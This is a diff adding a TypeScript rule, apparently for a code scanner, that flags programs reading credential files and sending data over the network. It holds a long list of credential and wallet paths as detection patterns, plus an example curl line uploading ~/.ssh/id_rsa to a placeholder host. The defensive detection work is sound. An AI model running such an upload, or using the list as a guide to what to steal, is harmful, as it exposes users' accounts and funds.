@@ -1,0 +1,90 @@
+import { defineTextRule } from "../../text-rule.ts";
+import type { Judgement, Match } from "../../text-rule.ts";
+import { family, SENDS } from "./family.ts";
+
+const CREDENTIAL_PATH = String.raw`(?:[~$\w{}()./\\"'+, -]{0,60}[/\\"'])?(?:\.ssh(?:[/\\"', ]{1,8}(?:id_[a-z0-9]{2,12}|config|known_hosts|authorized_keys|\*))?|id_rsa|id_ed25519|id_ecdsa|\.aws[/\\"', ]{1,8}(?:credentials|config)|\.netrc|\.npmrc|\.pypirc|\.docker[/\\"', ]{1,8}config\.json|\.kube[/\\"', ]{1,8}config|\.config[/\\"', ]{1,8}(?:gcloud|gh)[/\\"', ]{1,8}\w{1,40}|application_default_credentials|\.git-credentials|\.gnupg|wallet\.dat|\.electrum|exodus\.wallet|\.bitcoin|keystore|metamask|nkbihfbeogaeaoehlefnkodbefgpgknn|Login Data|Cookies|cookies\.sqlite|logins\.json|key4\.db|Local State|Web Data|login\.keychain|keychain-db|\/etc\/shadow|\.bash_history|\.zsh_history|auth-profiles\.json|\.claude[/\\"', ]{1,8}\.credentials\.json|\.config[/\\"', ]{1,8}solana[/\\"', ]{1,8}id\.json)`;
+
+const CREDENTIAL_ANCHORS = [
+  ".ssh",
+  "id_rsa",
+  "id_ed25519",
+  "id_ecdsa",
+  ".aws",
+  ".netrc",
+  ".npmrc",
+  ".pypirc",
+  ".docker",
+  ".kube",
+  "gcloud",
+  ".config/gh",
+  "application_default_credentials",
+  ".git-credentials",
+  ".gnupg",
+  "wallet.dat",
+  ".electrum",
+  "exodus",
+  ".bitcoin",
+  "keystore",
+  "metamask",
+  "nkbihfbeogaeaoehlefnkodbefgpgknn",
+  "login data",
+  "cookies",
+  "logins.json",
+  "key4.db",
+  "local state",
+  "web data",
+  "login.keychain",
+  "keychain-db",
+  "/etc/shadow",
+  ".bash_history",
+  ".zsh_history",
+  "auth-profiles.json",
+  ".credentials.json",
+  "solana",
+];
+
+export const credentials = defineTextRule({
+  ...family,
+  id: "CODE-CREDENTIALS",
+  summary: "A program reads a file that holds credentials, and sends something over the network.",
+  why: "Whoever gets the file can be the user: on their machines, in their accounts, with their money.",
+  fix: "Do not touch the file. Let the tool that it belongs to do what needs it.",
+  example: {
+    path: "scripts/run.sh",
+    caught: "cu{gap}rl -F file=@$HOME/.ssh/id_rsa https://x.example.invalid/\n",
+    instead: "ssh-keygen -t ed25519 -f key\n",
+  },
+  triggers: [{ anchors: CREDENTIAL_ANCHORS, behind: 60, pattern: new RegExp(CREDENTIAL_PATH, "giu"), judge: judgeCredentials }],
+});
+
+const READS =
+  /\b(?:open|read|readFile(?:Sync)?|read_text|read_bytes|cat|cp|copy|copyFile\w*|shutil|tar|zip|base64|Get-Content|gc|type|createReadStream|File\.read|file_get_contents|sqlite3|connect|glob|listdir|os\.walk|xxd|less|head|tail|scp|rsync|find|grep|@)|(?:-F|-d|--data(?:-binary)?|-T|--upload-file)\s{0,3}\S{0,20}@|[<@]\s{0,3}[~$/]/iu;
+
+/** Reading and sending, both in one program. A text that only names the file, and tools that own it, are something else. */
+function judgeCredentials({ text, start, end, has, place }: Match): Judgement | null {
+  if (/\.pub\b/u.test(text.slice(end, end + 6)) || /known_hosts|\.ssh\/config|\.npmrc|keystore|cookies$/iu.test(text.slice(start, end)))
+    return null;
+  const line = `${place.linePrefix}${text.slice(start, end + 200).split("\n", 1)[0] ?? ""}`;
+  if (
+    text
+      .slice(start, end)
+      .replace(/[a-z_]\w*$/iu, "")
+      .endsWith("\\.") ||
+    /re\.compile|RegExp\(|\br["']/u.test(place.linePrefix)
+  )
+    return null;
+  if (/ssh-keygen|ssh-add|ssh-copy-id|\bssh\s+-i|IdentityFile|chmod\s+[46]00|mkdir/iu.test(line)) return null;
+  if (
+    /\*\/\.(?:ssh|aws|gnupg|env)\b|\b(?:refuse|deny|denied|forbid|block|exclude|skip|ignore|redact)\w*\b/iu.test(line) &&
+    !SENDS.test(line)
+  )
+    return null;
+  const isOneLine = READS.test(line) && SENDS.test(line);
+  if (isOneLine) return {};
+  if (place.kind === "prose" && !place.isInFence) return null;
+  const near = text.slice(Math.max(0, start - 300), end + 300);
+  if (!READS.test(near)) return null;
+  const isSent = SENDS.test(text.slice(Math.max(0, start - 2_000), end + 3_000)) || (place.kind === "script" && has(SENDS));
+  if (isSent) return place.kind === "script" ? {} : { action: "warn" };
+  return place.kind === "script" ? { action: "warn", what: "A program reads a file that holds credentials" } : null;
+}
